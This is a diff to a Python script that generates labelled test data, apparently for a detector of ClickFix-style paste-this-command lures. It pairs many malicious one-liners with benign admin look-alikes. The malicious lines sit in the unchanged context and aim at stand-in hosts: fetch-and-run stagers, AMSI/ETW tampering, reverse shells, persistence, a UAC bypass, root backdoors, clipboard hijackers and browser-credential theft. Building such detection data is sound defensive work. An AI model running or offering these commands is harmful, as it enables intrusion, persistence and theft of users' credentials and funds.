@@ -31,31 +31,7 @@ from pathlib import Path
 from casefile import Book, texts_elsewhere, write  # beside this script (tests/data/cases/)
 
 OUT = Path(__file__).with_name("tech21.jsonl")
-book = Book("t21")
-ELSEWHERE = texts_elsewhere(OUT)
-
-
-def lures(
-    technique: str,
-    platform: str,
-    target: str,
-    pages: list[str],
-    texts: list[str],
-    in_context: str = "malicious",
-    bare: str = "flagged",
-) -> None:
-    """Each text in its page's context (pages taken in turn) and bare."""
-    for i, text in enumerate(texts):
-        if text in ELSEWHERE:
-            continue
-        book.add(technique, text, in_context, platform, target, pages[i % len(pages)])
-        book.add(technique, text, bare, platform, "unknown", None)
-
-
-def benign(technique: str, platform: str, target: str, page: str | None, texts: list[str]) -> None:
-    for text in texts:
-        if text not in ELSEWHERE:
-            book.add(technique, text, "not_flagged", platform, target, page)
+book = Book("t21", skip=texts_elsewhere(OUT))
 
 
 def b64(text: str) -> str:
@@ -102,7 +78,7 @@ DAV2 = "\\\\198.51.100.61@8080\\share"
 # Unit 42 2025-08 (pcalua with WebDAV in a ClickFix chain); LOLBAS Pcalua, Forfiles, Cmstp,
 # Msdt, Ieexec, Wmic, Schtasks, Odbcconf, Installutil, Regasm, Regsvcs, Msbuild,
 # Presentationhost, Mavinject. The wrapper is a fake check page; the proxy starts a download.
-lures(
+book.lures(
     "pcalua-proxy",
     "windows",
     "run_dialog",
@@ -115,7 +91,7 @@ lures(
         'pcalua -a mshta -c "https://quenby.invalid/h.hta" & echo Verified',
     ],
 )
-lures(
+book.lures(
     "forfiles-proxy",
     "windows",
     "run_dialog",
@@ -129,7 +105,7 @@ lures(
         "  # Cloudflare ID 22b1",
     ],
 )
-lures(
+book.lures(
     "cmstp-remote-profile",
     "windows",
     "run_dialog",
@@ -140,7 +116,7 @@ lures(
         "cmd /c curl -so %TEMP%\\c.inf https://192.0.2.77/c.inf & cmstp.exe /au /s %TEMP%\\c.inf",
     ],
 )
-lures(
+book.lures(
     "msdt-proxy",
     "windows",
     "run_dialog",
@@ -152,7 +128,7 @@ lures(
         "msdt.exe /path \\\\198.51.100.7\\diag\\net.xml /af %TEMP%\\a.xml",
     ],
 )
-lures(
+book.lures(
     "ieexec-remote",
     "windows",
     "run_dialog",
@@ -162,7 +138,7 @@ lures(
         "ieexec.exe http://203.0.113.19/verify.exe  # I am human",
     ],
 )
-lures(
+book.lures(
     "wmic-process-create",
     "windows",
     "run_dialog",
@@ -176,7 +152,7 @@ lures(
         'wmic process get brief /format:"\\\\203.0.113.9@SSL\\x\\s.xsl"  # verify',
     ],
 )
-lures(
+book.lures(
     "wmi-create-from-powershell",
     "windows",
     "terminal",
@@ -189,7 +165,7 @@ lures(
         "'cmd /c curl -s https://quenby.invalid/x -o %TEMP%\\x.exe & %TEMP%\\x.exe'",
     ],
 )
-lures(
+book.lures(
     "schtasks-url-payload",
     "windows",
     "run_dialog",
@@ -205,7 +181,7 @@ lures(
         " /f & schtasks /run /tn Upd",
     ],
 )
-lures(
+book.lures(
     "odbcconf-proxy",
     "windows",
     "run_dialog",
@@ -216,7 +192,7 @@ lures(
         "cmd /c curl -so %TEMP%\\d.dll https://cf-turnstile.example/d & odbcconf /s /a {REGSVR %TEMP%\\d.dll}",
     ],
 )
-lures(
+book.lures(
     "dotnet-installers-proxy",
     "windows",
     "run_dialog",
@@ -231,7 +207,7 @@ lures(
         "InstallUtil.exe /U \\\\198.51.100.15\\pub\\verify.dll",
     ],
 )
-lures(
+book.lures(
     "msbuild-inline-task",
     "windows",
     "run_dialog",
@@ -244,7 +220,7 @@ lures(
         '$env:WINDIR\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe $env:TEMP\\t.xml"',
     ],
 )
-lures(
+book.lures(
     "presentationhost-xbap",
     "windows",
     "run_dialog",
@@ -254,7 +230,7 @@ lures(
         f"PresentationHost.exe -debug {DAV}\\v.xbap",
     ],
 )
-lures(
+book.lures(
     "mavinject-dll",
     "windows",
     "run_dialog",
@@ -265,7 +241,7 @@ lures(
         f"mavinject 4120 /INJECTRUNNING {DAV}\\m.dll",
     ],
 )
-lures(
+book.lures(
     "webdav-copy-then-run",
     "windows",
     "run_dialog",
@@ -279,7 +255,7 @@ lures(
         f"xcopy /y {DAV}\\v.hta %TEMP%\\ & mshta %TEMP%\\v.hta",
     ],
 )
-lures(
+book.lures(
     "mshta-inline-script",
     "windows",
     "run_dialog",
@@ -292,7 +268,7 @@ lures(
         'https://quenby.invalid/c|cmd"",0:close")',
     ],
 )
-lures(
+book.lures(
     "ftp-script-fetch",
     "windows",
     "run_dialog",
@@ -302,7 +278,7 @@ lures(
         "%TEMP%\\v.exe>>%TEMP%\\f&echo bye>>%TEMP%\\f&ftp -i -s:%TEMP%\\f&%TEMP%\\v.exe",
     ],
 )
-lures(
+book.lures(
     "certreq-fetch",
     "windows",
     "run_dialog",
@@ -318,7 +294,7 @@ lures(
 # AmsiScanBuffer patching; the PowerShell ETW provider switched off; script block logging
 # switched off in the registry. Seen ahead of ClickFix stagers (2025 Lumma / NetSupport chains,
 # e.g. eSentire and Kroll write-ups) and in every public bypass list.
-lures(
+book.lures(
     "ps-downgrade-v2",
     "windows",
     "run_dialog",
@@ -332,7 +308,7 @@ lures(
         ' -OutFile $env:TEMP\\x.exe; & $env:TEMP\\x.exe"',
     ],
 )
-lures(
+book.lures(
     "amsi-tamper-then-fetch",
     "windows",
     "terminal",
@@ -350,7 +326,7 @@ lures(
         "'NonPublic,Static').SetValue($null,[IntPtr]::Zero); irm https://cf-turnstile.example/x | iex",
     ],
 )
-lures(
+book.lures(
     "amsi-tamper-alone",
     "windows",
     "terminal",
@@ -362,7 +338,7 @@ lures(
         "'amsiInit'+'Failed','NonPublic,Static').SetValue($null,$true)",
     ],
 )
-lures(
+book.lures(
     "etw-tamper",
     "windows",
     "terminal",
@@ -377,7 +353,7 @@ lures(
         "-ArgumentList @([Guid]::NewGuid());$p.SetValue($null,$e)",
     ],
 )
-lures(
+book.lures(
     "scriptblock-logging-off",
     "windows",
     "terminal",
@@ -396,7 +372,7 @@ lures(
 # bytes (Assembly.Load + EntryPoint/Invoke), a download read back with ReadAllText /
 # Get-Content -Raw and run (Huntress and Microsoft 2025 ClickFix write-ups: in-memory .NET
 # loaders behind the fetch; stego loaders of tech20 are a kin).
-lures(
+book.lures(
     "add-type-native-calls",
     "windows",
     "terminal",
@@ -411,7 +387,7 @@ lures(
         "Add-Type -Language CSharp -TypeDefinition (irm https://quenby.invalid/t.cs); [T.M]::Go()",
     ],
 )
-lures(
+book.lures(
     "reflection-load-download",
     "windows",
     "terminal",
@@ -427,7 +403,7 @@ lures(
         "$a=[Reflection.Assembly]::Load([byte[]]$r.Content);$a.GetTypes()[0]::Start()",
     ],
 )
-lures(
+book.lures(
     "download-read-back-run",
     "windows",
     "terminal",
@@ -443,7 +419,7 @@ lures(
         'iex ([System.IO.File]::ReadAllText("$env:TEMP\\z.txt"))',
     ],
 )
-lures(
+book.lures(
     "ps-tcp-reverse-shell",
     "windows",
     "terminal",
@@ -458,7 +434,7 @@ lures(
         '$w.AutoFlush=1;while($l=$r.ReadLine()){$w.WriteLine((iex $l|Out-String))}"',
     ],
 )
-lures(
+book.lures(
     "com-xmlhttp-run",
     "windows",
     "terminal",
@@ -476,7 +452,7 @@ lures(
 # login items, LoginHook (macOS: AMOS/Odyssey and the 2025 Atomic backdoor add persistence in
 # the pasted chain); systemd user units, cron, shell start files, PROMPT_COMMAND, SSH keys
 # (Linux). Each one fetches or starts a stranger's code on every log-in.
-lures(
+book.lures(
     "run-key-persistence",
     "windows",
     "run_dialog",
@@ -493,7 +469,7 @@ lures(
         " && %APPDATA%\\svc.exe",
     ],
 )
-lures(
+book.lures(
     "run-key-persistence-ps",
     "windows",
     "terminal",
@@ -508,7 +484,7 @@ lures(
         " Start-Process $env:APPDATA\\h.exe",
     ],
 )
-lures(
+book.lures(
     "scheduled-task-ps",
     "windows",
     "terminal",
@@ -522,7 +498,7 @@ lures(
         "Register-ScheduledTask Sync -Action $a -Trigger $t",
     ],
 )
-lures(
+book.lures(
     "startup-folder-drop",
     "windows",
     "terminal",
@@ -536,7 +512,7 @@ lures(
         "[Environment]::GetFolderPath('Startup')+'\\OneDrive.lnk')",
     ],
 )
-lures(
+book.lures(
     "launchagent-one-paste",
     "macos",
     "terminal",
@@ -556,7 +532,7 @@ lures(
         "~/Library/LaunchAgents/ && launchctl bootstrap gui/$UID ~/Library/LaunchAgents/p.plist",
     ],
 )
-lures(
+book.lures(
     "mac-login-item",
     "macos",
     "terminal",
@@ -572,7 +548,7 @@ lures(
         "https://support-macos.example/u.zip | ditto -x -k - /Users/Shared",
     ],
 )
-lures(
+book.lures(
     "osascript-password-prompt",
     "macos",
     "terminal",
@@ -589,7 +565,7 @@ lures(
         "https://support-macos.example/u",
     ],
 )
-lures(
+book.lures(
     "systemd-user-persistence",
     "linux",
     "terminal",
@@ -604,7 +580,7 @@ lures(
         "~/.local/bin/tracker-extract && systemd-run --user --unit=tracker-x ~/.local/bin/tracker-extract",
     ],
 )
-lures(
+book.lures(
     "cron-persistence-more",
     "linux",
     "terminal",
@@ -616,7 +592,7 @@ lures(
         "echo '* * * * * root curl -s https://captcha-check.example/k|bash' | sudo tee /etc/cron.d/kupd",
     ],
 )
-lures(
+book.lures(
     "shell-startup-persistence",
     "linux",
     "terminal",
@@ -630,7 +606,7 @@ lures(
         "&\"' >> ~/.bashrc",
     ],
 )
-lures(
+book.lures(
     "shell-startup-persistence-mac",
     "macos",
     "terminal",
@@ -640,7 +616,7 @@ lures(
         'echo \'osascript -e "do shell script \\"curl -s https://198.51.100.3/x | sh\\""\' >> ~/.zprofile',
     ],
 )
-lures(
+book.lures(
     "ssh-key-plant",
     "linux",
     "terminal",
@@ -656,7 +632,7 @@ lures(
 # Clipper loops (2025 reports on clipboard-stealers delivered via fake CAPTCHA, e.g. the
 # "MassJacker"/CryptoClipper families and StealC); browser "Login Data"/cookie theft one-liners
 # (Odyssey / AMOS copy Chrome and Firefox profiles and the keychain, then curl them out).
-lures(
+book.lures(
     "wallet-clipboard-hijack",
     "windows",
     "terminal",
@@ -671,7 +647,7 @@ lures(
         "'TLa2f6VPqDgRE67v1736s7bJ8Ray5wYjU7')};sleep -m 300}\"",
     ],
 )
-lures(
+book.lures(
     "wallet-clipboard-hijack-nix",
     "macos",
     "terminal",
@@ -683,7 +659,7 @@ lures(
         "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq | pbcopy;; esac; sleep 1; done' >/dev/null 2>&1 &",
     ],
 )
-lures(
+book.lures(
     "browser-data-theft",
     "windows",
     "terminal",
@@ -698,7 +674,7 @@ lures(
         "https://quenby.invalid/l -Method Post -InFile $_.FullName}",
     ],
 )
-lures(
+book.lures(
     "browser-data-theft-mac",
     "macos",
     "terminal",
@@ -712,7 +688,7 @@ lures(
         "b=@/tmp/b.zip https://support-macos.example/b",
     ],
 )
-lures(
+book.lures(
     "browser-data-theft-linux",
     "linux",
     "terminal",
@@ -727,7 +703,7 @@ lures(
 # ---- Reverse shells (GTFOBins "reverse shell" entries as one-liners a page asks for) --------
 # /dev/tcp, nc -e and the mkfifo form, busybox nc, socat, openssl, perl/php/ruby/awk (Hunt.io
 # APT36 Linux ClickFix and 2025 "fix your server" Telegram lures hand such lines to admins).
-lures(
+book.lures(
     "dev-tcp-shell",
     "linux",
     "terminal",
@@ -740,7 +716,7 @@ lures(
         "nohup bash -c 'bash -i >& /dev/tcp/verify.thistledown.test/9001 0>&1' >/dev/null 2>&1 &",
     ],
 )
-lures(
+book.lures(
     "nc-busybox-shell",
     "linux",
     "terminal",
@@ -754,7 +730,7 @@ lures(
         "toybox nc 198.51.100.26 4444 -e /bin/sh",
     ],
 )
-lures(
+book.lures(
     "socat-openssl-shell",
     "linux",
     "terminal",
@@ -765,7 +741,7 @@ lures(
         "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.33:443 > /tmp/s",
     ],
 )
-lures(
+book.lures(
     "interpreter-reverse-shell",
     "linux",
     "terminal",
@@ -788,7 +764,7 @@ lures(
 # Python -c exec(zlib/base64 ...) (CrashFix Python stage, PyPI-style droppers); Node -e with
 # child_process or https.get + eval (Contagious Interview / "fix your Node error" lures).
 _PY_STAGE = "import urllib.request as u;exec(u.urlopen('https://198.51.100.50/s').read())"
-lures(
+book.lures(
     "python-exec-compressed",
     "any",
     "terminal",
@@ -804,7 +780,7 @@ lures(
         'sys.stdin.buffer.read()))"',
     ],
 )
-lures(
+book.lures(
     "node-fetch-eval",
     "any",
     "terminal",
@@ -827,7 +803,7 @@ lures(
 # download (sc create, New-Service), the fodhelper / computerdefaults UAC bypass through
 # ms-settings' open command (public since 2017, still in 2025 loaders), msiexec /y, Control
 # Panel items and scripts read from a web folder, the clipboard and keys sent away.
-lures(
+book.lures(
     "bitsadmin-notify-run",
     "windows",
     "run_dialog",
@@ -839,7 +815,7 @@ lures(
         " && start %PUBLIC%\\s.exe",
     ],
 )
-lures(
+book.lures(
     "service-runs-download",
     "windows",
     "run_dialog",
@@ -851,7 +827,7 @@ lures(
         "%PUBLIC%\\svc.exe start= auto && sc start EdgeSvc",
     ],
 )
-lures(
+book.lures(
     "service-runs-download-ps",
     "windows",
     "terminal",
@@ -861,7 +837,7 @@ lures(
         "-BinaryPathName C:\\ProgramData\\u.exe -StartupType Automatic; Start-Service UpdSvc",
     ],
 )
-lures(
+book.lures(
     "uac-bypass-ms-settings",
     "windows",
     "terminal",
@@ -877,7 +853,7 @@ lures(
         " /v DelegateExecute /f & computerdefaults.exe",
     ],
 )
-lures(
+book.lures(
     "signed-loaders-from-share",
     "windows",
     "run_dialog",
@@ -889,7 +865,7 @@ lures(
         f"wscript /b {DAV2}\\v.vbs  # Verification ID 5521",
     ],
 )
-lures(
+book.lures(
     "clipboard-and-keys-sent",
     "windows",
     "terminal",
@@ -901,7 +877,7 @@ lures(
         "-InFile $_.FullName }",
     ],
 )
-lures(
+book.lures(
     "mac-secrets-sent",
     "macos",
     "terminal",
@@ -914,7 +890,7 @@ lures(
         "pbpaste | curl -s -X POST --data-binary @- https://support-macos.example/p",
     ],
 )
-lures(
+book.lures(
     "linux-preload-persistence",
     "linux",
     "terminal",
@@ -932,7 +908,7 @@ lures(
 # Run key (Winlogon Shell, UserInitMprLogonScript, cmd AutoRun, User Shell Folders), the
 # PowerShell profile, more stealer targets (VSS copy of locked cookies, wallets, Discord,
 # Telegram), more reverse shells (GTFOBins lua, telnet, xterm), AppleScript and X11 clippers.
-lures(
+book.lures(
     "task-and-registry-from-share",
     "windows",
     "run_dialog",
@@ -943,7 +919,7 @@ lures(
         f"regedit /s {DAV2}\\run.reg",
     ],
 )
-lures(
+book.lures(
     "inf-proxies-from-share",
     "windows",
     "run_dialog",
@@ -954,7 +930,7 @@ lures(
         f"infdefaultinstall.exe {DAV}\\x.inf",
     ],
 )
-lures(
+book.lures(
     "logon-hooks-more",
     "windows",
     "run_dialog",
@@ -967,7 +943,7 @@ lures(
         'https://brambleton-gate.test/a | cmd" /f',
     ],
 )
-lures(
+book.lures(
     "logon-hooks-more-ps",
     "windows",
     "terminal",
@@ -979,7 +955,7 @@ lures(
         "Register-ScheduledTask -TaskName EdgeUpd -Xml (irm https://brambleton-gate.test/t.xml) -Force",
     ],
 )
-lures(
+book.lures(
     "ps-run-forms-more",
     "windows",
     "terminal",
@@ -990,7 +966,7 @@ lures(
         "[Net.Http.HttpClient]::new().GetStringAsync('https://192.0.2.74/s').Result | iex",
     ],
 )
-lures(
+book.lures(
     "stealer-targets-more",
     "windows",
     "terminal",
@@ -1006,7 +982,7 @@ lures(
         "t=@$env:TEMP\\t.zip https://192.0.2.191/t",
     ],
 )
-lures(
+book.lures(
     "reverse-shell-more",
     "linux",
     "terminal",
@@ -1021,7 +997,7 @@ lures(
         "STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'",
     ],
 )
-lures(
+book.lures(
     "clipper-more",
     "macos",
     "terminal",
@@ -1031,7 +1007,7 @@ lures(
         "the clipboard to \"bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq\"' -e 'delay 1' -e 'end repeat'",
     ],
 )
-lures(
+book.lures(
     "clipper-more-linux",
     "linux",
     "terminal",
@@ -1041,7 +1017,7 @@ lures(
         "0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed | xclip -selection clipboard; sleep 1; done &",
     ],
 )
-lures(
+book.lures(
     "python-fetch-start",
     "windows",
     "terminal",
@@ -1062,7 +1038,7 @@ FILEFIX = [
     "https://docs-portal.example/file/0x7a",
 ]
 _PAD = " " * 60 + "# C:\\Company\\HR\\Policies\\Leave-Policy-2026.docx"
-lures(
+book.lures(
     "filefix-middlemen",
     "windows",
     "explorer_bar",
@@ -1081,7 +1057,7 @@ lures(
 # ---- Third round: signed starters, Tcl, root back doors ---------------------------------------
 # LOLBAS Zipfldr / Pcwutl / Ieadvpack / Wlrmdr / Squirrel (Update.exe); GTFOBins tclsh; the
 # set-user-ID shell and the second uid-0 account that "fix your server" pastes leave behind.
-lures(
+book.lures(
     "signed-starters",
     "windows",
     "run_dialog",
@@ -1095,7 +1071,7 @@ lures(
         "%LOCALAPPDATA%\\Discord\\Update.exe --update=https://quenby.invalid/rel",
     ],
 )
-lures(
+book.lures(
     "tcl-reverse-shell",
     "linux",
     "terminal",
@@ -1105,7 +1081,7 @@ lures(
         'set e "exec $c";if {![catch {set r [eval $e]} err]} { puts $s $r }; flush $s; }; close $s;\' | tclsh',
     ],
 )
-lures(
+book.lures(
     "root-backdoor",
     "linux",
     "terminal",
@@ -1118,7 +1094,7 @@ lures(
         "sudo chmod 4755 /bin/sh",
     ],
 )
-lures(
+book.lures(
     "root-backdoor-mac",
     "macos",
     "terminal",
@@ -1130,7 +1106,7 @@ lures(
 )
 
 # ---- Look-alikes: what admins and developers really run ------------------------------------
-benign(
+book.benign(
     "windows-admin-proxies",
     "windows",
     "terminal",
@@ -1156,7 +1132,7 @@ benign(
         "msdt.exe /id NetworkDiagnosticsWeb",
     ],
 )
-benign(
+book.benign(
     "powershell-admin",
     "windows",
     "terminal",
@@ -1178,7 +1154,7 @@ benign(
         "$PSVersionTable.PSVersion",
     ],
 )
-benign(
+book.benign(
     "mac-admin",
     "macos",
     "terminal",
@@ -1197,7 +1173,7 @@ benign(
         "echo 'eval \"$(/opt/homebrew/bin/brew shellenv)\"' >> ~/.zprofile",
     ],
 )
-benign(
+book.benign(
     "linux-admin",
     "linux",
     "terminal",
@@ -1221,7 +1197,7 @@ benign(
         "tar czf ~/backup/chrome-profile.tgz ~/.config/google-chrome/Default/Bookmarks",
     ],
 )
-benign(
+book.benign(
     "windows-admin-more",
     "windows",
     "terminal",
@@ -1241,7 +1217,7 @@ benign(
         "Get-Service | Where-Object Status -eq Running",
     ],
 )
-benign(
+book.benign(
     "nix-admin-more",
     "any",
     "terminal",
@@ -1261,7 +1237,7 @@ benign(
         "sqlite3 ~/Library/Messages/chat.db '.tables'",
     ],
 )
-benign(
+book.benign(
     "clipboard-and-downloads-dev",
     "any",
     "terminal",
@@ -1275,7 +1251,7 @@ benign(
         "Get-Content $PROFILE",
     ],
 )
-benign(
+book.benign(
     "admin-more-third",
     "any",
     "terminal",
@@ -1293,7 +1269,7 @@ benign(
         "wmic process where \"name='notepad.exe'\" call terminate",
     ],
 )
-benign(
+book.benign(
     "setuid-and-accounts-admin",
     "any",
     "terminal",
@@ -1307,7 +1283,7 @@ benign(
         "rundll32 printui.dll,PrintUIEntry /il",
     ],
 )
-benign(
+book.benign(
     "security-prose",
     "windows",
     "other",
@@ -1319,7 +1295,7 @@ benign(
         "them; always compare the first and last characters of an address before you send.",
     ],
 )
-benign(
+book.benign(
     "python-node-dev",
     "any",
     "terminal",
